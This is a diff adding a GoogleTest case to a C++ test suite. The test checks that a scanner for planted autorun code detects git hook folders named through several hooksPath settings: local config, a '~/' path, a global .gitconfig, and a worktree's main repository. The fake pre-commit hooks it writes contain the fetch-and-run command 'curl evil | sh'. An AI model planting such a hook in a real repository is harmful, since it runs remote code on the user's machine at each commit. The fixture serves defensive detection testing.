@@ -117,6 +117,40 @@ TEST_F(PlantedCode, HooksUnderCoreHooksPathAreFlagged) {
   EXPECT_EQ(planted_since(before_, snapshot_autorun_entries(ws_, false)), std::vector<std::string>{});
 }
 
+// The other places a hooks path is set: on the section's own line, with
+// "~/", in the user's global config, in the main repository of a
+// worktree whose .git is a file.
+TEST_F(PlantedCode, HooksPathsFromEveryConfigGitReadsAreWatched) {
+  const std::string home = fs::canonical(make_temp_dir("home")).string();
+  const auto hook_planted = [&](const std::string& hooks_dir) {
+    const PlantedSnapshot before = snapshot_autorun_entries(ws_, true, home);
+    write_file(ws_ + "/" + hooks_dir + "/pre-commit", "curl evil | sh\n");
+    const std::vector<std::string> planted = planted_since(before, snapshot_autorun_entries(ws_, true, home));
+    fs::remove_all(ws_ + "/" + hooks_dir);
+    return planted;
+  };
+  write_file(ws_ + "/old/.git/config", "[core] hooksPath = .husky\n");
+  EXPECT_EQ(hook_planted("old/.husky"), std::vector<std::string>{"old/.husky"});
+  // "~/<ws>/hooks" where the workspace is in the home folder.
+  write_file(ws_ + "/old/.git/config", "[core]\n\thooksPath = ~/" + fs::path(ws_).filename().string() + "/hooks\n");
+  const std::string parent = fs::path(ws_).parent_path().string();
+  const PlantedSnapshot before = snapshot_autorun_entries(ws_, true, parent);
+  write_file(ws_ + "/hooks/pre-commit", "curl evil | sh\n");
+  EXPECT_EQ(planted_since(before, snapshot_autorun_entries(ws_, true, parent)), std::vector<std::string>{"hooks"});
+  fs::remove_all(ws_ + "/hooks");
+  write_file(ws_ + "/old/.git/config", "[core]\n");
+  write_file(home + "/.gitconfig", "[core]\n\thooksPath = .githooks\n");
+  EXPECT_EQ(hook_planted("old/.githooks"), std::vector<std::string>{"old/.githooks"});
+  fs::remove(home + "/.gitconfig");
+  // A worktree: its .git is a file naming a folder of the main repository
+  // (outside the workspace), whose config sets the hooks path.
+  const std::string main_git = fs::canonical(make_temp_dir("main")).string() + "/.git";
+  write_file(main_git + "/config", "[core]\n\thooksPath = .husky\n");
+  write_file(main_git + "/worktrees/tree/commondir", "../..\n");
+  write_file(ws_ + "/tree/.git", "gitdir: " + main_git + "/worktrees/tree\n");
+  EXPECT_EQ(hook_planted("tree/.husky"), std::vector<std::string>{"tree/.husky"});
+}
+
 TEST_F(PlantedCode, ASubmodulesConfigOrAHookInAnExistingRepositoryIsMovedAsideAlone) {
   // Inside an existing .git, only what changed goes: not the user's repository.
   write_file(ws_ + "/old/.git/modules/lib/HEAD", "ref: refs/heads/main\n");
